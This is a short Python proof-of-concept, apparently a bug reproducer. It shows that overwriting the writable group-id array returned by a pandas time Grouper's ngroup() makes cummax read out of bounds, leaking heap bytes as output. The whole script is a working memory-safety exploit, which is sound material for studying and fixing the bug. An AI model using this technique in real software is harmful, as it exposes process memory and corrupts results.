# source: pandas/core/groupby/ops.py BinGrouper.group_info (cache_readonly comp_ids) handed out by GroupBy.ngroup(); pandas/_libs/groupby.pyx group_cummin_max (@boundscheck(False))
# family: writable internal index arrays of pandas objects (a time Grouper's cached bin labels, reached through ngroup()) used unchecked by Cython kernels
# goal: out-of-bounds heap read through a time-based Grouper(freq="D") and cummax: heap bytes (text of other objects) come back as values
import numpy as np
import pandas as pd

idx = pd.date_range("2024-01-01", periods=8, freq="12H")
s = pd.Series(np.full(8, -(2 ** 62), dtype=np.int64), index=idx)
gb = s.groupby(pd.Grouper(freq="D"))
ids = gb.ngroup()
print("ngroup:", ids.tolist())
ids.values[:] = np.arange(8) * 3 + 4
res = gb.cummax()
print("cummax:", [hex(int(t)) for t in res])
print("as bytes:", np.asarray(res.values).tobytes()[16:])
